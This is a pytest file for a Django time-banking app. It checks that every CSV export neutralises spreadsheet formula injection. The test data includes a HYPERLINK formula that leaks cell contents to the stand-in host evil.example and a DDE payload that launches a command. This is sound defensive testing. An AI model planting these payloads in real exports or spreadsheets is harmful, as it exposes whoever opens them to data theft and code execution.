"""Every CSV the project serves goes through one writer (kernel.csvfile) that stops a
spreadsheet from running a member's text as a formula (CSV injection)."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import time_machine
from django_tenants.utils import tenant_context

from core.exchanges import services as x
from core.listings.services import listing_create
from core.members.models import Member, Role
from kernel.csvfile import FORMULA_STARTS, csv_text
from ledger.services import gift_grant
from tests.conftest import streamed
from tests.core.exchanges.conftest import soon

if TYPE_CHECKING:
    from collections.abc import Callable

    from django.test import Client
    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse

    from tenants.models import Network
    from tests.conftest import NetworkClient

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click for your hours")'
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run; a negative number is a number."""
    return [
        cell
        for cell in _cells(text)
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def test_the_writer_neutralises_every_formula_start_and_leaves_numbers_alone() -> None:
    hostile = [f"{start}1+1" for start in FORMULA_STARTS]
    text = csv_text([hostile, [-30, 2.5, "plain", ""]])
    assert _live_formulas(text) == []
    assert [cell.removeprefix("'") for cell in _cells(text)[: len(hostile)]] == hostile
    assert _cells(text)[len(hostile) :] == ["-30", "2.5", "plain", ""]


@pytest.fixture
def hostile_exchange(
    network_a: Network, make_member: Callable[..., Member]
) -> tuple[Member, Member, Member]:
    """A completed exchange between a member whose name is a formula and one whose
    listing's title is one."""
    mallory = make_member(network_a, full_name=HOSTILE_NAME)
    bob = make_member(network_a, full_name="Bob Receiver")
    olive = make_member(network_a, full_name="Olive Organiser", role=Role.ORGANISER)
    with tenant_context(network_a):
        for member in (mallory, bob):
            gift_grant(member=member)
        offer = listing_create(
            actor=mallory,
            kind="offer",
            title=HOSTILE_TITLE,
            description="Help",
            category="coaching",
        )
        exchange = x.exchange_respond(actor=bob, listing=offer, message="Hi")
        x.exchange_accept(actor=mallory, exchange=exchange)
        proposal = x.exchange_propose(
            actor=bob, exchange=exchange, starts_at=soon(), place="Room 4"
        )
        x.exchange_agree(actor=mallory, exchange=exchange, proposal_id=proposal.pk)
        with time_machine.travel(proposal.starts_at + datetime.timedelta(hours=2)):  # they met
            x.exchange_record_hours(actor=mallory, exchange=exchange, minutes=60)
            x.exchange_confirm(actor=bob, exchange=exchange)
    return mallory, bob, olive


def _body(response: TestResponse) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = streamed(response) if response.streaming else response.content
    return content.decode()


def test_every_csv_served_in_a_network_neutralises_formulas(
    network_a: Network, hostile_exchange: tuple[Member, Member, Member], client_a: NetworkClient
) -> None:
    _, bob, olive = hostile_exchange
    client_a.force_login(bob)
    statement = _body(client_a.get("/ledger/statement.csv"))
    assert "'" + HOSTILE_TITLE in statement
    client_a.force_login(olive)
    exchanges = _body(client_a.get("/exchanges/organiser/exchanges.csv"))
    assert exchanges.count("'" + HOSTILE_NAME.replace('"', '""')) == 1
    served = {"statement": statement, "exchanges": exchanges}
    for name in ("hours", "members", "categories", "formats", "skills"):
        served[name] = _body(client_a.get(f"/insights/impact/{name}.csv"))
    served["equality"] = _body(client_a.get("/insights/equality/download/"))
    assert {name: _live_formulas(text) for name, text in served.items()} == {
        name: [] for name in served
    }


def test_the_network_export_neutralises_formulas(
    network_a: Network, hostile_exchange: tuple[Member, Member, Member], public_client: Client
) -> None:
    staff = Member.objects.create_user(
        "staff@hexitime.example", "a long staff passphrase", full_name="Sam Staff", is_staff=True
    )
    public_client.force_login(staff)
    response = public_client.post(f"/console/networks/{network_a.slug}/export/")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    tables = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}
    assert "'" + HOSTILE_NAME.replace('"', '""') in tables["csv/members.member.csv"]
    assert {n: _live_formulas(text) for n, text in tables.items()} == {n: [] for n in tables}


def test_csv_is_written_only_by_the_one_writer() -> None:
    """A new export that wrote CSV itself would skip the neutralising: only kernel.csvfile
    may use the standard library's writer."""
    sources = [
        path
        for folder in ("core", "ledger", "tenants", "theming", "platform")
        for path in (ROOT / folder).rglob("*.py")
    ]
    writers = [
        str(path.relative_to(ROOT))
        for path in sources
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text())
    ]
    assert writers == ["platform/kernel/csvfile.py"]


def test_a_member_of_another_network_gets_no_export(
    network_b: Network,
    hostile_exchange: tuple[Member, Member, Member],
    make_member: Callable[..., Member],
    client_b: NetworkClient,
) -> None:
    stranger = make_member(network_b, role=Role.ORGANISER)
    client_b.force_login(stranger)
    exchanges = _body(client_b.get("/exchanges/organiser/exchanges.csv"))
    assert HOSTILE_TITLE not in exchanges and len(_cells(exchanges)) == 11
